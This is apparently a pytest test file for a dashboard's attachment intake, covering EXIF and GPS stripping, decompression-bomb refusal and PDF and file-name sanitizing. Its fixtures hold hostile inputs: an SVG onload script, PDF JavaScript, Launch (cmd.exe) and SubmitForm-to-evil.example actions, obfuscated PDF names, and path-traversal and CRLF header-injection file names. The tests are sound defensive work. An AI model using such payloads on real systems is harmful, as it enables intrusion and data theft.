"""What a department attaches: pictures written anew without a place, PDFs that cannot act, nothing else."""

import io
import tracemalloc
import zlib
from pathlib import Path

import pytest
from PIL import Image

from dashboard.reports.attachments import LARGEST_ATTACHMENT, taken
from dashboard.store.attachments import keep_file, read_file
from tests.commands.people import refusal
from tests.reports.test_pictures import bomb, picture

GPS, MAKE, ORIENTATION = 0x8825, 0x010F, 0x0112


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a small PDF with some objects."""
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    body += b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    for number, one in enumerate(objects, start=3):
        body += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    return body + b"trailer\n<</Root 1 0 R%b>>\nstartxref\n0\n%%%%EOF\n" % trailer


def stream(head: bytes, body: bytes) -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (head, len(body), body)


def located() -> bytes:
    """Return a photograph that says where it was taken, held on its side."""
    exif = Image.Exif()
    exif[MAKE], exif[ORIENTATION] = "secret camera", 6
    exif.get_ifd(GPS).update({1: "N", 2: (30.0, 49.0, 12.0), 3: "E", 4: (111.0, 47.0, 30.0)})
    raw = picture(400, 300, exif=exif)
    assert b"secret camera" in raw
    assert Image.open(io.BytesIO(raw)).getexif().get_ifd(GPS)
    return raw


def test_a_photograph_is_written_anew_without_place_and_upright() -> None:
    kept = taken(located() + b"MZ<script>", "IMG_0001.JPG")
    assert (kept.name, kept.media_type) == ("IMG_0001.jpg", "image/jpeg")
    assert kept.preview is not None
    for body in (kept.body, kept.preview):
        opened = Image.open(io.BytesIO(body))
        assert (opened.format, dict(opened.getexif())) == ("JPEG", {})
        assert b"secret camera" not in body
        assert b"script" not in body
        assert opened.height > opened.width


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_what_a_telephone_takes_is_made_smaller(kind: str) -> None:
    kept = taken(picture(5000, 3000, kind=kind), "现场.png")
    assert kept.name == "现场.jpg"
    assert Image.open(io.BytesIO(kept.body)).size == (2560, 1536)
    assert Image.open(io.BytesIO(kept.preview or b"")).size == (320, 192)


def test_the_same_picture_is_the_same_file() -> None:
    raw = picture(640, 480)
    assert taken(raw, "a.jpg").digest == taken(raw, "b.png").digest
    assert taken(picture(641, 480), "a.jpg").digest != taken(raw, "a.jpg").digest


def test_sixty_megapixels_are_refused_before_they_unfold() -> None:
    raw = bomb(10_000, 6_000)
    tracemalloc.start()
    assert refusal(taken, raw, "60.png") == "attachment_pixels"
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 5_000_000


@pytest.mark.parametrize(
    "raw",
    [
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 4000,
        b"PK\x03\x04" + b"\x00" * 400,
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"",
        picture()[:2000],
        b"\n%PDF-1.7\n%%EOF",
    ],
    ids=["a program", "an archive", "SVG", "nothing", "half a picture", "a PDF after something else"],
)
def test_what_is_neither_a_picture_nor_a_pdf_is_refused_whatever_it_is_called(raw: bytes) -> None:
    for name in ("x.jpg", "x.pdf"):
        assert refusal(taken, raw, name) == "attachment_no_picture"


def test_what_is_too_large_is_refused() -> None:
    assert refusal(taken, b"\xff" * (LARGEST_ATTACHMENT + 1), "x.jpg") == "too_large"


def test_a_plain_pdf_is_kept_as_it_came() -> None:
    words = stream(b"", b"BT (/JS and /XFA are words on the page) Tj ET")
    packed = stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"7 0 <</Type/Page>>"))
    raw = pdf(words, packed)
    kept = taken(raw, "验收单.pdf")
    assert (kept.name, kept.media_type, kept.preview) == ("验收单.pdf", "application/pdf", None)
    assert kept.body == raw


ACTIVE = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (pdf(ACTIVE), "attachment_pdf_active"),
        (pdf(b"<</S/J#61vaScript/JS 9 0 R>>"), "attachment_pdf_active"),
        (pdf(b"<</S/Launch/F(cmd.exe)>>"), "attachment_pdf_active"),
        (pdf(b"<</Names<</EmbeddedFiles 4 0 R>>>>"), "attachment_pdf_active"),
        (pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "attachment_pdf_active"),
        (
            pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"7 0 " + ACTIVE))),
            "attachment_pdf_active",
        ),
        (pdf(stream(b"/Type/Obj#53tm/N 1/First 4", b"7 0 " + ACTIVE)), "attachment_pdf_active"),
        (
            pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", b"00")),
            "attachment_pdf_locked",
        ),
        (pdf(b"(stream\n)", ACTIVE, b"(endstream)"), "attachment_pdf_active"),
        (
            pdf(
                b"(stream\n)",
                stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"7 0 " + ACTIVE)),
            ),
            "attachment_pdf_locked",
        ),
        (pdf(trailer=b"/Encrypt 9 0 R"), "attachment_pdf_locked"),
        (pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"no zlib")), "attachment_pdf_broken"),
        (
            pdf(stream(b"/Type/ObjStm/Filter/FlateDecode", zlib.compress(b"\x00" * 80_000_000, 9))),
            "attachment_pdf_broken",
        ),
        (pdf()[:-8], "attachment_pdf_broken"),
        (b"%PDF-", "attachment_pdf_broken"),
    ],
)
def test_a_pdf_that_can_act_or_cannot_be_looked_through_is_refused(raw: bytes, code: str) -> None:
    assert refusal(taken, raw, "x.pdf") == code


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("C:\\Users\\me\\照片.JPEG", "照片.jpg"),
        ("a\u202egpj.exe", "agpj.jpg"),
        ('x"\r\nSet-Cookie: a=b.jpg', "xSet-Cookie a=b.jpg"),
        ("", "1.jpg"),
        (".jpg", "jpg.jpg"),
        ("长" * 300 + ".jpg", "长" * 80 + ".jpg"),
    ],
)
def test_a_files_name_is_made_safe(name: str, kept: str) -> None:
    assert taken(picture(8, 8), name).name == kept


def test_a_kept_file_is_found_by_its_digest_and_only_while_it_is_the_same(tmp_path: Path) -> None:
    digest = keep_file(tmp_path, b"one")
    assert keep_file(tmp_path, b"one") == digest
    assert read_file(tmp_path, digest) == b"one"
    assert refusal(read_file, tmp_path, "0" * 64) == "not_found"
    (path,) = [one for one in (tmp_path / "attachments").rglob("*") if one.is_file()]
    assert path.stat().st_mode & 0o077 == 0
    path.write_bytes(b"other")
    assert refusal(read_file, tmp_path, digest) == "not_found"
